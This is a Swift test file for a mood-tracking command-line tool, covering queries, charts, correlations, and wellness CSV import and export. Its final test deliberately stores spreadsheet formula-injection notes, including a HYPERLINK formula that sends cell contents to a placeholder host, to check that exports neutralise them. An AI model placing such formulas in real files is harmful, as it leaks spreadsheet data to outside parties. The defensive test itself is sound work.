import Foundation
import Testing
import TestSupport

/// `query`, `chart`, `correlate`, and the Introspective imports and exports, run as a person would.
@Suite struct QueryCLITests {
    static func vaultWithAnEvening() throws -> CLIVault {
        let vault = try CLIVault()
        try vault.ok(["start", "Socializing", "--at", "2026-03-02T18:00:00"])
        try vault.ok(["stop", "Socializing", "--at", "2026-03-02T19:20:00"])
        try vault.ok(["mood", "2", "--at", "2026-03-02T19:40:00"])
        try vault.ok(["mood", "8", "--at", "2026-03-02T19:30:00"])
        try vault.ok(["mood", "3", "--at", "2026-03-02T21:00:00"])
        try vault.ok(["take", "Ibuprofen", "200mg", "--note", "headache", "--at", "2026-03-02T21:30:00"])
        return vault
    }

    @Test func queryFindsTheMoodSoonAfterSocializing() throws {
        let vault = try Self.vaultWithAnEvening()
        let output = try vault.ok(["query", #"mood where rating <= 3 and within 30m after activity "Socializing""#, "--json"])
        let object = try JSONSerialization.jsonObject(with: Data(output.utf8)) as! [String: Any]
        let rows = object["rows"] as! [[String: Any]]
        #expect(rows.count == 1)
        #expect(rows.first?["rating"] as? Double == 2)
        #expect(rows.first?["time"] as? String == "2026-03-02 19:40")
        let csv = try vault.ok(["query", "mood count, mood min by day", "--format", "csv"])
        #expect(csv == "day,mood count (count),mood min (1-10)\n2026-03-02,3,2\n")
    }

    @Test func theIndexCatchesUpWithAppendsCorrectionsAndRetractions() throws {
        let vault = try CLIVault()
        try vault.ok(["mood", "4", "--at", "2026-03-02T08:00:00"])
        #expect(try vault.ok(["query", "mood count, mood max", "--format", "csv"]) == "mood count (count),mood max (1-10)\n1,4\n")
        try vault.ok(["mood", "7", "--at", "2026-03-02T09:00:00"])
        let id = try vault.rawEvents()[0]["id"] as! String
        try vault.ok(["correct", id, "rating=9"])
        #expect(try vault.ok(["query", "mood count, mood max", "--format", "csv"]) == "mood count (count),mood max (1-10)\n2,9\n")
        try vault.ok(["retract", id])
        #expect(try vault.ok(["query", "mood count, mood max", "--format", "csv"]) == "mood count (count),mood max (1-10)\n1,7\n")
        #expect(try vault.ok(["query", "mood count", "--as-of-seq", "2", "--format", "csv"]) == "mood count (count)\n2\n")
    }

    @Test func aMistakeIsExit65WithACaret() throws {
        let vault = try Self.vaultWithAnEvening()
        let result = try vault.run(["query", "mood where ratng <= 3"])
        #expect(result.status == 65)
        #expect(result.stderr.contains("did you mean 'rating'?"))
        #expect(result.stderr.contains("  mood where ratng <= 3\n             ^^^^^"))
    }

    @Test func chartWritesAnSVGWithAPointPerDay() throws {
        let vault = try Self.vaultWithAnEvening()
        try vault.ok(["mood", "6", "--at", "2026-03-03T09:00:00"])
        let file = vault.root + "/moods.svg"
        try vault.ok(["chart", "line", "mood avg by day", "--out", file])
        let svg = try String(contentsOfFile: file, encoding: .utf8)
        #expect(svg.hasPrefix("<?xml"))
        #expect(svg.components(separatedBy: "class=\"point\"").count - 1 == 2)
        #expect(try vault.run(["chart", "scatter", "mood avg by day", "--out", file]).status == 65)
        if FileManager.default.isExecutableFile(atPath: "/usr/bin/rsvg-convert") {
            let png = vault.root + "/moods.png"
            try vault.ok(["chart", "bar", "mood avg, mood max by day", "--out", file, "--png", png])
            #expect(FileManager.default.contents(atPath: png)?.prefix(8) == Data([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]))
        }
    }

    @Test func correlateNeedsDaysOnBothSides() throws {
        let vault = try Self.vaultWithAnEvening()
        let result = try vault.run(["correlate", #"dose "Ibuprofen""#, "--with", "mood avg"])
        #expect(result.status == 65)
        #expect(result.stderr.contains("each side needs at least 3"))
        let typo = try vault.run(["correlate", #"dose "Ibuprofen""#, "--with", "mood avrg"])
        #expect(typo.status == 65)
        #expect(typo.stderr.contains("  mood avrg\n       ^^^^") && typo.stderr.contains("did you mean 'avg'?"))
    }

    @Test func wellnessImportThenIntrospectiveExport() throws {
        let vault = try CLIVault()
        let file = vault.root + "/wellness.csv"
        try "Date,Time,Rating,Note,Health Entry Type\n3/2/26, 08:15,4,\"slept badly\"\n3/3/26, 08:20,6,\"\"\n".write(toFile: file, atomically: true, encoding: .utf8)
        #expect(try vault.ok(["import", "wellness", file, "--zone", "Europe/Paris"]).contains("2 mood.rated"))
        #expect(try vault.ok(["import", "wellness", file, "--zone", "Europe/Paris", "--json"]).contains("\"stored\":0"))
        let export = vault.root + "/moods.csv"
        try vault.ok(["export", "moods", export])
        let lines = try String(contentsOfFile: export, encoding: .utf8).split(separator: "\n")
        #expect(lines.first == #""Timestamp","Time Zone","Rating","Minimum Allowed Rating","Maximum Allowed Rating","Note","Source""#)
        #expect(lines.dropFirst().first == #""Monday, March 2, 2026 at 8:15:00 AM Central European Standard Time","Europe/Paris","4","1","7","slept badly","Wellness""#)
    }

    @Test func csvExportsWriteFormulaCellsAsText() throws {
        let vault = try CLIVault()
        try vault.ok(["mood", "4", "--note", "=HYPERLINK(\"http://x.example/?\"&A1,\"see\")", "--at", "2026-03-02T08:00:00+01:00"])
        try vault.ok(["mood", "5", "--note", "@SUM(1+1)", "--at", "2026-03-03T08:00:00+01:00"])
        try vault.ok(["mood", "6", "--note=-2+3", "--at", "2026-03-04T08:00:00+01:00"])
        let export = vault.root + "/moods.csv"
        try vault.ok(["export", "moods", export])
        let text = try String(contentsOfFile: export, encoding: .utf8)
        #expect(text.contains(#""'=HYPERLINK(""http://x.example/?""&A1"#), "\(text)")
        #expect(text.contains(#""'@SUM(1+1)""#) && text.contains(#""'-2+3""#), "\(text)")
        #expect(!text.contains(#","=HYPERLINK"#) && !text.contains(#","@SUM"#) && !text.contains(#","-2+3"#), "\(text)")
    }
}
